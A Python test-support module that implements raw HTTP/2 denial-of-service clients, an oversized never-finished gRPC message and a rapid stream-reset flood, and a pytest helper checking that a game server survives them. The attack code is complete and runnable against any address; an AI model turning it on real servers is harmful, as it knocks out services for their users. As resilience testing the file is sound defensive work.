# SPDX-License-Identifier: Apache-2.0
"""Clients of HTTP/2 by hand, without the token of the server that they attack.

python tests/support/strangers.py HOST:PORT ATTACK [--tls] [--seconds 60] [--connections 8]

ATTACK: messages (health checks of 255 MiB), or resets (calls that are reset as soon as they are
made, as fast as the connection takes them). Prints a line once it attacks.

grpcio would keep a copy of every message. RFC 9113 has the frames, RFC 7541 the headers.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest
from background import SOON
from later import later

from torchbeast.servers.addresses import answers

if TYPE_CHECKING:
    from serving import Game

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
MIB = 1 << 20
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
_ACK = _END_STREAM = 1
_END_HEADERS = 4
_INITIAL_WINDOW, _MAX_FRAME = 4, 5  # settings
_STREAM = 1
_CANCEL = (8).to_bytes(4, "big")
_LITERAL, _REMEMBERED = 0x00, 0x40  # how a header is written
_ALL_REMEMBERED = bytes(0xBE + i for i in reversed(range(6)))  # by their numbers in the table
_FLOOD = 1000  # calls that are sent at a time


class UnfinishedCall:
    """A call whose message of `size` bytes is never complete. Used by one thread."""

    def __init__(self, connection: socket.socket, method: str, size: int) -> None:
        """Begins the call over a new connection; method: /SERVICE/METHOD."""
        self._socket = connection
        self._windows = {0: 65_535, _STREAM: 65_535}
        self._initial_window, self._max_frame = 65_535, 16_384
        self._received = b""
        self.is_refused = False
        self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        self._socket.sendall(_frame(_HEADERS, _END_HEADERS, _STREAM, _headers(method)))
        self._rest = size
        self._next = b"\0" + struct.pack(">I", size)  # gRPC's prefix of a message

    def send(self, patience_s: float) -> bool:
        """Sends what the server has room for now; returns whether that was anything.

        patience_s: to wait for more room.
        """
        self._hear(patience_s)
        before = self._rest
        while not self.is_refused and (room := self._room()):
            self._send(room)
            self._hear(0.0)
        return self._rest < before

    def _room(self) -> int:
        return max(0, min(*self._windows.values(), self._max_frame, self._rest - 1))

    def _send(self, room: int) -> None:
        data, self._next = self._next + bytes(room - len(self._next)), b""
        self._socket.settimeout(5.0)
        self._socket.sendall(_frame(_DATA, 0, _STREAM, data))
        self._rest -= room
        for stream in self._windows:
            self._windows[stream] -= room

    def _hear(self, patience_s: float) -> None:
        """Takes the frames that have come."""
        self._socket.settimeout(patience_s)
        with contextlib.suppress(BlockingIOError, TimeoutError, ssl.SSLWantReadError):
            while received := self._socket.recv(1 << 16):
                self._received += received
                self._take_frames()
                self._socket.settimeout(0.0)
            self.is_refused = True

    def _take_frames(self) -> None:
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3], "big")
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            if len(self._received) < 9 + size:
                return
            self._take(kind, flags, stream, self._received[9 : 9 + size])
            self._received = self._received[9 + size :]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            for at in range(0, len(payload), 6):
                self._set(*struct.unpack(">HI", payload[at : at + 6]))
            self._socket.sendall(_frame(_SETTINGS, _ACK, 0, b""))
        elif kind == _PING and not flags & _ACK:
            self._socket.sendall(_frame(_PING, _ACK, 0, payload))
        elif kind == _WINDOW_UPDATE:
            self._windows[stream] += int.from_bytes(payload, "big")
        elif kind in (_RST_STREAM, _GOAWAY) or (kind == _HEADERS and flags & _END_STREAM):
            self.is_refused = True

    def _set(self, name: int, value: int) -> None:
        if name == _INITIAL_WINDOW:
            self._windows[_STREAM] += value - self._initial_window
            self._initial_window = value
        elif name == _MAX_FRAME:
            self._max_frame = value


def unread_calls(path: str, method: str, number: int) -> socket.socket:
    """Makes calls over a connection whose answers nobody reads, and returns the connection."""
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    block = _headers(method)
    for stream in range(1, 2 * number, 2):
        connection.sendall(_frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, block))
    return connection


def messages(connection: socket.socket) -> Iterator[None]:
    """Sends as much of a large message as the server lets it."""
    call = UnfinishedCall(connection, HEALTH_CHECK, 255 * MIB)
    while call.send(patience_s=0.3):
        yield


def resets(connection: socket.socket) -> Iterator[None]:
    """Makes calls and resets each at once, as fast as the connection takes them."""
    first = _headers("/rpcenv.RPCEnvServer/Describe", _REMEMBERED)
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_SETTINGS, _ACK, 0, b""))
    connection.sendall(_frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, first))
    again = _frame(_HEADERS, _END_HEADERS | _END_STREAM, 0, _ALL_REMEMBERED)
    call = np.frombuffer(again + _frame(_RST_STREAM, 0, 0, _CANCEL), np.uint8)
    calls = np.tile(call, (_FLOOD, 1))
    connection.settimeout(0.5)
    for start in range(3, 1 << 31, 2 * _FLOOD):
        streams = np.arange(start, start + 2 * _FLOOD, 2).astype(">u4")
        for offset in (5, len(again) + 5):
            calls[:, offset : offset + 4] = streams.view(np.uint8).reshape(_FLOOD, 4)
        rest = memoryview(calls.tobytes())
        while rest:
            with contextlib.suppress(TimeoutError, ssl.SSLWantWriteError):
                rest = rest[connection.send(rest) :]
            yield


ATTACKS = {"messages": messages, "resets": resets}
# Attacks, and protections that hold: without TLS gRPC queues any number of calls.
CASES = [("messages", "token"), later("resets", "TLS"), ("resets", "certificates")]


def attack(address: str, name: str, tls: bool, connections: int, seconds: float) -> None:
    """Attacks from threads, each of which makes one connection after the other."""
    host, port = address.rsplit(":", 1)
    until = time.monotonic() + seconds
    begun = threading.Event()

    def stranger() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError), _connected(host, int(port), tls) as connection:
                for _ in ATTACKS[name](connection):
                    begun.set()
                    if time.monotonic() > until:
                        break
            begun.set()  # a server that asks for a certificate refuses the connection

    threads = [threading.Thread(target=stranger) for _ in range(connections)]
    for thread in threads:
        thread.start()
    begun.wait()
    print(f"attacking {address}", flush=True)
    for thread in threads:
        thread.join()


def check_unharmed(
    game: Game, address: str, name: str, tls: bool, pytestconfig: pytest.Config
) -> None:
    """Fails if the attack harms the two streams of a game, which this process serves and plays.

    It takes --attack-seconds. All share the processors of one machine, so that only measurements
    tell by how much an attack slows a game (pytest -s shows them).
    """
    seconds = pytestconfig.getoption("--attack-seconds")
    before, held = _rollouts_per_second(game, min(seconds, 10)), _memory("VmRSS")
    Path("/proc/self/clear_refs").write_text("5")  # the kernel forgets the peak
    command = [sys.executable, __file__, address, name, "--seconds", str(seconds + SOON)]
    with subprocess.Popen(command + ["--tls"] * tls, stdout=subprocess.PIPE) as strangers:
        try:
            assert strangers.stdout is not None and strangers.stdout.readline()
            during = _rollouts_per_second(game, seconds)
            assert strangers.poll() is None, "the attack continues"
        finally:
            strangers.kill()
    grown = (_memory("VmHWM") - held) // MIB
    print(f"{name}: {during:.0f} rollouts/s, before {before:.0f}; {grown} MiB more memory")
    assert game.pool.lost_streams() == 0
    assert game.pool.live_streams() == 2
    assert grown < (128 if seconds < 10 else 200), "glibc keeps freed memory, more with time"
    assert answers(address, SOON), "it hears others again"
    assert during > before / 10


def _rollouts_per_second(game: Game, seconds: float) -> float:
    until, count = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        game.rollout()
        count += 1
    return count / seconds


def _memory(field: str) -> int:
    status = Path("/proc/self/status").read_text()
    return 1024 * int(status.partition(f"{field}:")[2].split()[0])


def _connected(host: str, port: int, tls: bool) -> socket.socket:
    connection = socket.create_connection((host, port), timeout=5.0)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection) if tls else connection


def _headers(method: str, form: int = _LITERAL) -> bytes:
    headers = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "a"}
    headers |= {"te": "trailers", "content-type": "application/grpc"}
    return b"".join(bytes([form]) + _text(name) + _text(value) for name, value in headers.items())


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--connections", type=int, default=8)
    given = parser.parse_args()
    os.nice(19)  # on one machine, those who are attacked need the processor too
    attack(given.address, given.attack, given.tls, given.connections, given.seconds)


if __name__ == "__main__":
    main()
